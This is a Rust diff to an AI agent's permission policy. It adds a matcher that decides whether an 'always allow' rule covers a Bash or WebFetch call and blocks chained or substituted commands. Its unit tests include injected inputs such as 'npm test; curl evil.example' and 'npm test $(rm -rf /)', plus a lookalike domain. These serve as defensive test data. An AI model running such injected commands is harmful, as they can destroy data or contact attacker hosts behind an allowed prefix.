@@ -24,6 +24,7 @@
 
 use std::path::{Component, Path, PathBuf};
 
+use agentbox_protocol::permission::PermissionRule;
 use serde_json::Value;
 
 /// What the policy makes of one tool call.
@@ -342,6 +343,77 @@ impl AutoPolicy {
         }
         None
     }
+}
+
+/// Whether an "always allow" rule covers a call of `tool` with `input`. A prefix rule for
+/// `Bash` (`npm test *`, `npm test:*`) covers only a single command: a call that chains,
+/// pipes, substitutes or redirects could hide anything behind the allowed prefix.
+pub fn rule_matches(rule: &PermissionRule, tool: &str, input: &Value) -> bool {
+    if rule.tool_name != tool {
+        return false;
+    }
+    let Some(content) = rule.rule_content.as_deref() else { return true };
+    match tool {
+        "Bash" => {
+            let Some(command) = input.get("command").and_then(Value::as_str) else {
+                return false;
+            };
+            let command = command.trim();
+            let prefix = content.strip_suffix(" *").or_else(|| content.strip_suffix(":*"));
+            match prefix {
+                Some(prefix) => {
+                    let single =
+                        !command.contains(|c| ";&|<>`\n".contains(c)) && !command.contains("$(");
+                    single
+                        && (command == prefix
+                            || command
+                                .strip_prefix(prefix)
+                                .is_some_and(|rest| rest.starts_with(' ')))
+                }
+                None => command == content.trim(),
+            }
+        }
+        "WebFetch" => {
+            let host = input.get("url").and_then(Value::as_str).and_then(host_of);
+            match (content.strip_prefix("domain:"), host) {
+                (Some(domain), Some(host)) => {
+                    let (domain, host) = (domain.to_ascii_lowercase(), host.to_ascii_lowercase());
+                    host == domain || host.ends_with(&format!(".{domain}"))
+                }
+                _ => false,
+            }
+        }
+        _ => input
+            .as_object()
+            .is_some_and(|fields| fields.values().any(|value| value.as_str() == Some(content))),
+    }
+}
+
+/// The rule "always allow this" stores for a call: the rule the CLI suggested for the tool
+/// when it suggested one; otherwise the exact command for `Bash`, the domain for `WebFetch`,
+/// and every call of the tool for the others.
+pub fn rule_for(tool: &str, input: &Value, suggestions: &[Value]) -> PermissionRule {
+    let suggested = suggestions
+        .iter()
+        .filter(|s| s.get("type").and_then(Value::as_str) == Some("addRules"))
+        .filter(|s| s.get("behavior").and_then(Value::as_str).is_none_or(|b| b == "allow"))
+        .filter_map(|s| s.get("rules").and_then(Value::as_array))
+        .flatten()
+        .find(|rule| rule.get("toolName").and_then(Value::as_str) == Some(tool))
+        .map(|rule| rule.get("ruleContent").and_then(Value::as_str).map(str::to_owned));
+    let content = match suggested {
+        Some(content) => content,
+        None => match tool {
+            "Bash" => input.get("command").and_then(Value::as_str).map(|c| c.trim().to_owned()),
+            "WebFetch" => input
+                .get("url")
+                .and_then(Value::as_str)
+                .and_then(host_of)
+                .map(|host| format!("domain:{host}")),
+            _ => None,
+        },
+    };
+    PermissionRule { tool_name: tool.to_owned(), rule_content: content }
 }
 
 /// The risk of a `git` command, if any.
@@ -817,6 +889,49 @@ mod tests {
         assert!(!read_only("python3 script.py"));
         assert!(p.is_read_only("Read", &json!({"file_path": "a"}), ws));
         assert!(!p.is_read_only("Write", &json!({"file_path": "a"}), ws));
+    }
+
+    #[test]
+    fn rules_match_what_they_say_and_no_more() {
+        let rule = |tool: &str, content: Option<&str>| PermissionRule {
+            tool_name: tool.into(),
+            rule_content: content.map(str::to_owned),
+        };
+        let bash = |command: &str| json!({"command": command});
+        let exact = rule("Bash", Some("printf x > a.txt && echo written"));
+        assert!(rule_matches(&exact, "Bash", &bash("printf x > a.txt && echo written")));
+        assert!(!rule_matches(&exact, "Bash", &bash("printf y > a.txt && echo written")));
+        let prefix = rule("Bash", Some("npm test *"));
+        assert!(rule_matches(&prefix, "Bash", &bash("npm test")));
+        assert!(rule_matches(&prefix, "Bash", &bash("npm test --watch")));
+        assert!(!rule_matches(&prefix, "Bash", &bash("npm testing")));
+        assert!(!rule_matches(&prefix, "Bash", &bash("npm test; curl evil.example")));
+        assert!(!rule_matches(&prefix, "Bash", &bash("npm test $(rm -rf /)")));
+        assert!(!rule_matches(&prefix, "Write", &bash("npm test")));
+        let whole = rule("Write", None);
+        assert!(rule_matches(&whole, "Write", &json!({"file_path": "/x"})));
+        let domain = rule("WebFetch", Some("domain:docs.rs"));
+        assert!(rule_matches(&domain, "WebFetch", &json!({"url": "https://docs.rs/x"})));
+        assert!(!rule_matches(&domain, "WebFetch", &json!({"url": "https://docs.rs.evil/x"})));
+    }
+
+    #[test]
+    fn remembered_rules_follow_the_clis_suggestion() {
+        let suggestions = vec![
+            json!({"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "echo hi *"}],
+                   "behavior": "allow", "destination": "localSettings"}),
+            json!({"type": "addDirectories", "directories": ["/w"], "destination": "session"}),
+        ];
+        let input = json!({"command": "echo hi > y.txt"});
+        assert_eq!(
+            rule_for("Bash", &input, &suggestions).rule_content.as_deref(),
+            Some("echo hi *")
+        );
+        assert_eq!(rule_for("Bash", &input, &[]).rule_content.as_deref(), Some("echo hi > y.txt"));
+        let write = rule_for("Write", &json!({"file_path": "/w/a"}), &[]);
+        assert_eq!(write, PermissionRule { tool_name: "Write".into(), rule_content: None });
+        let fetch = rule_for("WebFetch", &json!({"url": "https://docs.rs/x"}), &[]);
+        assert_eq!(fetch.rule_content.as_deref(), Some("domain:docs.rs"));
     }
 
     #[test]
